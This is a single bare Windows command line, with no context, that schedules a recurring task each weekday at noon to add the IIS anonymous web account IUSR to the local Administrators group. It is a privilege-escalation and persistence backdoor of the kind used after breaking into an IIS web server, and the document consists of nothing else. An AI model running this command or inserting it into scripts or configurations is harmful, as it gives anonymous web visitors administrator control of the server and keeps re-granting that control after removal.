at 12:00 /every:m,t,w,th,f cmd /c net localgroup Administrators IUSR /add
